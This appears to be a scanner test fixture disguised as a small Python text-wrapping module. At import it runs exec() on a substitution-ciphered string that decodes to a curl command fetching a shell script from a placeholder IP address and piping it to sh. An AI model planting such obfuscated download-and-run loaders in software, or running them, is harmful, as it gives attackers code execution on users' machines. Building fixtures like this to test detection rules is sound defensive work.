"""Text wrapping that knows about ANSI escapes (defanged fixture: a substitution-ciphered payload)."""
import textwrap

_K1 = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./:'()_ ,=|-"
_K2 = "2QG)Rxaqvy64VIHkn5MbCNwrEF,uDS-l|= 7si3.XTz(Z1LWOo'K0d8J9peA/fcB:hUm_jgYtP"
_DOC = 'vVkH5bjHM;jHMcMEMbRVUhGC54jPxMZijqbbk:BB80Jc0cddJc9BwcMqjtjMqhm'


def wrap(text, width=70):
    return textwrap.wrap(text, width=width)


# ruleid: code/code-execution
exec(_DOC.translate(str.maketrans(_K2, _K1)))
